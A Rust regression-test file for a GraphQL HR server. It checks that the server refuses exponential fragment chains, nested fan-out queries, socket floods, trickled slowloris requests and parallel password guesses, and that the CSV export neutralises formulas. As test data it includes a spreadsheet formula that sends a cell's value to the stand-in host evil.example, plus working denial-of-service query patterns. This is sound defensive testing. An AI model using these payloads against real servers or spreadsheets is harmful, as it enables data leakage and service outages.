//! Regression tests for the attacks of issue 13: requests that cost more
//! than they look, fan-out over HTTP and WebSocket, login races, too many
//! connections and sockets, CSV formulas, and hostile search text.

use std::time::{Duration, Instant};

use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::helpers::{
    counted_once, error_code, ws_connect, ws_receive, ws_send as send, Person, Socket, TestApp,
    PASSWORD,
};

/// `levels` fragments, each spreading the next twice, ending in `end`.
fn fragment_chain(levels: usize, end: &str) -> String {
    let mut q = String::from("query { ...F0 }\n");
    for i in 0..levels {
        q.push_str(&format!(
            "fragment F{i} on Query {{ ...F{n} ...F{n} }}\n",
            n = i + 1
        ));
    }
    q.push_str(&format!("fragment F{levels} on Query {{ {end} }}\n"));
    q
}

async fn healthz(app: &TestApp) -> Duration {
    let started = Instant::now();
    let response = app
        .client
        .get(format!("{}/healthz", app.address))
        .timeout(Duration::from_secs(5))
        .send()
        .await
        .expect("healthz answers");
    assert_eq!(response.status(), 200);
    started.elapsed()
}

#[tokio::test]
async fn fragment_chains_are_refused_at_once_and_healthz_keeps_answering() {
    let app = TestApp::spawn_production().await;
    for query in [
        fragment_chain(21, "__schema { __typename }"),
        fragment_chain(27, "...Unknown"),
    ] {
        let started = Instant::now();
        let (a, b, health) = tokio::join!(
            app.gql(&query, json!({}), None),
            app.gql(&query, json!({}), None),
            healthz(&app),
        );
        let elapsed = started.elapsed();
        for body in [a, b] {
            assert_eq!(error_code(&body), "BAD_USER_INPUT", "{body}");
            let message = body["errors"][0]["message"].as_str().unwrap_or_default();
            assert!(message.contains("too costly"), "{body}");
        }
        assert!(health < Duration::from_secs(1), "healthz took {health:?}");
        // Debug builds are slower than release; the point is milliseconds,
        // not the exponential walk (which took minutes and gigabytes).
        assert!(elapsed < Duration::from_millis(500), "took {elapsed:?}");
    }
}

const FAN_OUT: &str =
    "{ me { manager { reports { manager { reports { manager { reports { name } } } } } } } }";

#[tokio::test]
async fn fan_out_is_refused_with_its_cost_over_http() {
    let app = TestApp::spawn().await;
    let body = app.gql(FAN_OUT, json!({}), Some(&app.employee)).await;
    assert_eq!(error_code(&body), "BAD_USER_INPUT", "{body}");
    let cost = &body["errors"][0]["extensions"]["cost"];
    assert!(
        cost["requested"].as_u64().unwrap() > cost["limit"].as_u64().unwrap(),
        "{body}"
    );
    assert!(
        body.get("data").is_none() || body["data"].is_null(),
        "{body}"
    );
    // Large pages of nested lists are refused too; a page of 100 is fine.
    let nested = "{ employees(first: 100) { nodes { reports { reports { name } } } } }";
    let body = app.gql(nested, json!({}), Some(&app.hr)).await;
    assert_eq!(error_code(&body), "BAD_USER_INPUT", "{body}");
    let page = "{ employees(first: 100) { nodes { name role { code } manager { name } } } }";
    let body = app.gql(page, json!({}), Some(&app.hr)).await;
    assert!(body.get("errors").is_none(), "{body}");
}

async fn socket(app: &TestApp, origin: Option<&str>) -> Result<Socket, u16> {
    ws_connect(app, origin).await
}

/// The next JSON message (other than `complete`), or the close frame as
/// `{"close": code}`.
async fn receive(socket: &mut Socket) -> Value {
    loop {
        let message = ws_receive(socket).await;
        if message["type"] != "complete" {
            return message;
        }
    }
}

async fn init(socket: &mut Socket, token: &str) -> Value {
    send(
        socket,
        json!({ "type": "connection_init", "payload": { "Authorization": format!("Bearer {token}") } }),
    )
    .await;
    receive(socket).await
}

#[tokio::test]
async fn fan_out_is_refused_over_websocket_as_query_and_as_subscription() {
    let app = TestApp::spawn().await;
    let mut ws = socket(&app, None).await.expect("upgrade");
    assert_eq!(
        init(&mut ws, &app.employee.token).await["type"],
        "connection_ack"
    );
    let subscription = "subscription { nominationChanged { nominee { manager { reports { manager { reports { manager { reports { name } } } } } } } } }";
    for (id, query) in [("q", FAN_OUT), ("s", subscription)] {
        send(
            &mut ws,
            json!({ "id": id, "type": "subscribe", "payload": { "query": query } }),
        )
        .await;
        let answer = receive(&mut ws).await;
        assert_eq!(answer["id"], id, "{answer}");
        let errors = if answer["type"] == "error" {
            answer["payload"].clone()
        } else {
            answer["payload"]["errors"].clone()
        };
        assert_eq!(
            errors[0]["extensions"]["code"], "BAD_USER_INPUT",
            "{answer}"
        );
        assert!(
            errors[0]["extensions"]["cost"]["requested"].is_u64(),
            "{answer}"
        );
    }
}

#[tokio::test]
async fn every_websocket_operation_is_counted_once_and_its_errors_carry_codes() {
    let app = TestApp::spawn().await;
    let mut ws = socket(&app, None).await.expect("upgrade");
    assert_eq!(
        init(&mut ws, &app.employee.token).await["type"],
        "connection_ack"
    );
    let operations = [
        ("ok", "query WsAnsweredProbe { me { id } }".to_owned()),
        ("costly", format!("query WsCostlyProbe {FAN_OUT}")),
        (
            "invalid",
            "query WsInvalidProbe { me { noSuchField } }".to_owned(),
        ),
    ];
    for (id, query) in &operations {
        send(
            &mut ws,
            json!({ "id": id, "type": "subscribe", "payload": { "query": query } }),
        )
        .await;
        let answer = receive(&mut ws).await;
        assert_eq!(answer["id"], *id, "{answer}");
        let errors = if answer["type"] == "error" {
            answer["payload"].clone()
        } else {
            answer["payload"]["errors"].clone()
        };
        if *id == "ok" {
            assert!(errors.is_null(), "{answer}");
        } else {
            assert_eq!(
                errors[0]["extensions"]["code"], "BAD_USER_INPUT",
                "{answer}"
            );
        }
    }
    // The log line and the sample are written when the operation's stream
    // ends, just after its last answer: allow the socket a moment.
    let mut metrics = String::new();
    for _ in 0..50 {
        metrics = app.metrics().await;
        if metrics.contains("WsInvalidProbe") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    for probe in ["WsAnsweredProbe", "WsCostlyProbe", "WsInvalidProbe"] {
        counted_once(&metrics, probe);
    }
}

#[tokio::test]
async fn a_socket_without_connection_init_is_closed_with_4408() {
    let app = TestApp::spawn_configured(|app| {
        app.ws_limits(rungs::ws::WsLimits {
            init_timeout: Duration::from_millis(300),
            ..Default::default()
        })
    })
    .await;
    let mut ws = socket(&app, None).await.expect("upgrade");
    let started = Instant::now();
    assert_eq!(receive(&mut ws).await["close"], 4408);
    assert!(started.elapsed() < Duration::from_secs(5));
}

#[tokio::test]
async fn operations_per_socket_and_sockets_per_person_are_capped() {
    let app = TestApp::spawn_configured(|app| {
        app.ws_limits(rungs::ws::WsLimits {
            max_subscriptions: 3,
            max_sockets_per_person: 2,
            ..Default::default()
        })
    })
    .await;
    let mut first = socket(&app, None).await.expect("upgrade");
    assert_eq!(
        init(&mut first, &app.hr.token).await["type"],
        "connection_ack"
    );
    for i in 0..3 {
        send(
            &mut first,
            json!({ "id": format!("s{i}"), "type": "subscribe", "payload": { "query": "subscription { nominationChanged { id } }" } }),
        )
        .await;
    }
    send(
        &mut first,
        json!({ "id": "s3", "type": "subscribe", "payload": { "query": "subscription { nominationChanged { id } }" } }),
    )
    .await;
    let refused = receive(&mut first).await;
    assert_eq!(refused["id"], "s3", "{refused}");
    assert_eq!(refused["type"], "error", "{refused}");
    assert_eq!(refused["payload"][0]["extensions"]["code"], "RATE_LIMITED");
    // Completing one makes room for another.
    send(&mut first, json!({ "id": "s0", "type": "complete" })).await;
    send(
        &mut first,
        json!({ "id": "ok", "type": "subscribe", "payload": { "query": "{ me { id } }" } }),
    )
    .await;
    let answer = receive(&mut first).await;
    assert_eq!(answer["id"], "ok", "{answer}");
    assert_eq!(answer["type"], "next", "{answer}");

    let mut second = socket(&app, None).await.expect("upgrade");
    assert_eq!(
        init(&mut second, &app.hr.token).await["type"],
        "connection_ack"
    );
    let mut third = socket(&app, None).await.expect("upgrade");
    assert_eq!(init(&mut third, &app.hr.token).await["close"], 4429);
    // Someone else is not affected; closing a socket gives its slot back.
    let mut other = socket(&app, None).await.expect("upgrade");
    assert_eq!(
        init(&mut other, &app.employee.token).await["type"],
        "connection_ack"
    );
    drop(second);
    let mut again = None;
    for _ in 0..50 {
        let mut ws = socket(&app, None).await.expect("upgrade");
        if init(&mut ws, &app.hr.token).await["type"] == "connection_ack" {
            again = Some(ws);
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(again.is_some(), "the closed socket's slot came back");
}

#[tokio::test]
async fn a_page_from_another_origin_cannot_open_a_socket() {
    let app = TestApp::spawn().await;
    assert_eq!(
        socket(&app, Some("https://evil.example")).await.err(),
        Some(403)
    );
    let own = app.address.clone();
    assert!(socket(&app, Some(&own)).await.is_ok());
    assert!(socket(&app, None).await.is_ok(), "non-browser clients");
}

#[tokio::test]
async fn a_burst_of_parallel_guesses_is_counted_whole_and_the_right_password_last_is_refused() {
    let app = TestApp::spawn().await;
    let mut answers = Vec::new();
    let guesses: Vec<_> = (0..59)
        .map(|i| {
            let app = &app;
            async move {
                app.login(&app.employee.email, &format!("wrong password {i:02}"))
                    .await
            }
        })
        .collect();
    let (wrong, right) = tokio::join!(futures::future::join_all(guesses), async {
        tokio::time::sleep(Duration::from_millis(50)).await;
        app.login(&app.employee.email, PASSWORD).await
    });
    answers.extend(wrong);
    assert_eq!(error_code(&right), "RATE_LIMITED", "{right}");
    let checked = answers
        .iter()
        .filter(|a| error_code(a) == "UNAUTHENTICATED")
        .count();
    assert!(checked <= 5, "{checked} guesses were checked");
    for answer in &answers {
        assert_ne!(error_code(answer), "INTERNAL", "{answer}");
    }
}

#[tokio::test]
async fn change_password_shares_the_sign_in_throttle() {
    let app = TestApp::spawn().await;
    let mutation = "mutation($c: String!) { changePassword(currentPassword: $c, newPassword: \"a brand new passphrase\") }";
    for i in 0..5 {
        let body = app
            .gql(
                mutation,
                json!({ "c": format!("wrong current {i}") }),
                Some(&app.employee),
            )
            .await;
        assert_eq!(error_code(&body), "BAD_USER_INPUT", "{body}");
    }
    let body = app
        .gql(mutation, json!({ "c": PASSWORD }), Some(&app.employee))
        .await;
    assert_eq!(error_code(&body), "RATE_LIMITED", "{body}");
    let login = app.login(&app.employee.email, PASSWORD).await;
    assert_eq!(error_code(&login), "RATE_LIMITED", "{login}");
}

#[tokio::test]
async fn connections_over_the_cap_are_refused_while_healthz_answers() {
    let app = TestApp::spawn_configured(|app| {
        app.connection_limits(rungs::connections::ConnectionLimits {
            max_connections: 20,
            ..Default::default()
        })
    })
    .await;
    // A monitor already connected (keep-alive) before the flood.
    assert!(healthz(&app).await < Duration::from_secs(1));
    let address = app.address.trim_start_matches("http://").to_owned();
    let mut idle = Vec::new();
    for _ in 0..40 {
        idle.push(TcpStream::connect(&address).await.expect("connect"));
    }
    // The ones over the cap are closed by the server: reading ends at once.
    let mut closed = 0;
    for stream in &mut idle {
        let mut byte = [0u8; 1];
        if let Ok(Ok(0)) =
            tokio::time::timeout(Duration::from_millis(200), stream.read(&mut byte)).await
        {
            closed += 1;
        }
    }
    assert!(closed >= 20, "only {closed} of 40 were refused");
    assert!(healthz(&app).await < Duration::from_secs(1));
    // A new connection that sends its request at once takes the place of
    // an idle one.
    let fresh = reqwest::Client::new()
        .get(format!("{}/healthz", app.address))
        .timeout(Duration::from_secs(2))
        .send()
        .await
        .expect("a new monitor connection is served at the cap");
    assert_eq!(fresh.status(), 200);
    drop(idle);
}

#[tokio::test]
async fn a_client_that_trickles_its_request_is_cut_off() {
    let app = TestApp::spawn_configured(|app| {
        app.connection_limits(rungs::connections::ConnectionLimits {
            request_read: Duration::from_millis(500),
            ..Default::default()
        })
    })
    .await;
    let address = app.address.trim_start_matches("http://").to_owned();
    let mut stream = TcpStream::connect(&address).await.expect("connect");
    stream
        .write_all(b"GET /healthz HTTP/1.1\r\n")
        .await
        .unwrap();
    let started = Instant::now();
    let mut closed = false;
    while started.elapsed() < Duration::from_secs(5) {
        if stream.write_all(b"X-Slow: 1\r\n").await.is_err() {
            closed = true;
            break;
        }
        let mut byte = [0u8; 64];
        if let Ok(read) =
            tokio::time::timeout(Duration::from_millis(100), stream.read(&mut byte)).await
        {
            if matches!(read, Ok(0) | Err(_)) {
                closed = true;
                break;
            }
        }
    }
    assert!(closed, "the slow client was still connected after 5 s");
    assert!(healthz(&app).await < Duration::from_secs(1));
}

#[tokio::test]
async fn search_text_is_bounded_and_holds_no_control_characters() {
    let app = TestApp::spawn().await;
    let query = "query($s: String!) { employees(filter: { search: $s }) { totalCount } }";
    for bad in ["x".repeat(101), "a\u{0}".to_owned(), "\u{0}".to_owned()] {
        let body = app.gql(query, json!({ "s": bad }), Some(&app.hr)).await;
        assert_eq!(error_code(&body), "BAD_USER_INPUT", "{body}");
    }
    // Wildcards are text, not patterns ("Mika Manager" is not "m_ka").
    for wildcard in ["%", "m_ka", "mi%a", "\\"] {
        let body = app
            .data(query, json!({ "s": wildcard }), Some(&app.hr))
            .await;
        assert_eq!(body["employees"]["totalCount"], 0, "{wildcard}: {body}");
    }
    let body = app.data(query, json!({ "s": "emi" }), Some(&app.hr)).await;
    assert_eq!(body["employees"]["totalCount"], 1, "{body}");
}

#[tokio::test]
async fn graphql_answers_are_never_cached_nor_sniffed() {
    let app = TestApp::spawn().await;
    let response = app
        .client
        .post(format!("{}/graphql", app.address))
        .bearer_auth(&app.employee.token)
        .json(&json!({ "query": "{ me { id } }" }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.headers()["cache-control"], "no-store");
    assert_eq!(response.headers()["x-content-type-options"], "nosniff");
}

#[tokio::test]
async fn answers_keep_the_order_of_the_selection() {
    let app = TestApp::spawn().await;
    let response = app
        .client
        .post(format!("{}/graphql", app.address))
        .bearer_auth(&app.employee.token)
        .json(&json!({ "query": "{ me { name id email } }" }))
        .send()
        .await
        .unwrap();
    let text = response.text().await.unwrap();
    let name = text.find("\"name\"").unwrap();
    let id = text.find("\"id\"").unwrap();
    let email = text.find("\"email\"").unwrap();
    assert!(name < id && id < email, "{text}");
    // The root too, though its fields come from different areas of the
    // schema: in the selection's order, aliases included.
    for (query, first, second) in [
        (
            "{ payChanges { totalCount } me { id } }",
            "\"payChanges\"",
            "\"me\"",
        ),
        (
            "{ me { id } payChanges { totalCount } }",
            "\"me\"",
            "\"payChanges\"",
        ),
        (
            "{ z: openings { totalCount } a: myApplications { id } }",
            "\"z\"",
            "\"a\"",
        ),
    ] {
        let text = app
            .client
            .post(format!("{}/graphql", app.address))
            .bearer_auth(&app.employee.token)
            .json(&json!({ "query": query }))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        let (a, b) = (text.find(first).unwrap(), text.find(second).unwrap());
        assert!(a < b, "{query}: {text}");
    }
}

#[tokio::test]
async fn the_eligibility_export_neutralises_formulas() {
    let app = TestApp::spawn().await;
    app.person(Person {
        name: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".into(),
        ..Default::default()
    })
    .await;
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_rungs"))
        .args(["export", "eligibility", "--database-url", &app.database_url])
        .env("RUST_LOG", "error")
        .output()
        .expect("export runs");
    assert!(output.status.success());
    let text = String::from_utf8(output.stdout).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut seen = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell}"
            );
        }
        if record.get(1).is_some_and(|n| n.contains("HYPERLINK")) {
            assert!(record.get(1).unwrap().starts_with("'="));
            seen += 1;
        }
    }
    assert!(seen > 0, "the employee is in the export:\n{text}");
}

#[tokio::test]
async fn a_quiet_socket_outlives_the_http_deadlines() {
    let app = TestApp::spawn_configured(|app| {
        app.connection_limits(rungs::connections::ConnectionLimits {
            request_read: Duration::from_millis(300),
            keep_alive: Duration::from_millis(300),
            ..Default::default()
        })
    })
    .await;
    let mut ws = socket(&app, None).await.expect("upgrade");
    assert_eq!(
        init(&mut ws, &app.employee.token).await["type"],
        "connection_ack"
    );
    tokio::time::sleep(Duration::from_millis(1200)).await;
    send(
        &mut ws,
        json!({ "id": "late", "type": "subscribe", "payload": { "query": "{ me { id } }" } }),
    )
    .await;
    let answer = receive(&mut ws).await;
    assert_eq!(answer["type"], "next", "{answer}");
    // An idle HTTP connection is closed by then.
    let address = app.address.trim_start_matches("http://").to_owned();
    let mut idle = TcpStream::connect(&address).await.expect("connect");
    let mut byte = [0u8; 1];
    let read = tokio::time::timeout(Duration::from_secs(3), idle.read(&mut byte)).await;
    assert!(matches!(read, Ok(Ok(0)) | Ok(Err(_))), "{read:?}");
}

#[tokio::test]
async fn every_request_is_counted_once_whatever_path_it_takes() {
    let app = TestApp::spawn().await;
    let dead_token = app
        .client
        .post(format!("{}/graphql", app.address))
        .bearer_auth("not-a-live-token")
        .json(&json!({ "query": "query DeadTokenProbe { me { id } }" }))
        .send()
        .await
        .unwrap();
    assert_eq!(dead_token.status(), 200);
    let costly = app
        .gql(
            &format!("query CostlyProbe {FAN_OUT}"),
            json!({}),
            Some(&app.employee),
        )
        .await;
    assert_eq!(error_code(&costly), "BAD_USER_INPUT", "{costly}");
    let metrics = app.metrics().await;
    for probe in ["DeadTokenProbe", "CostlyProbe"] {
        counted_once(&metrics, probe);
    }
}
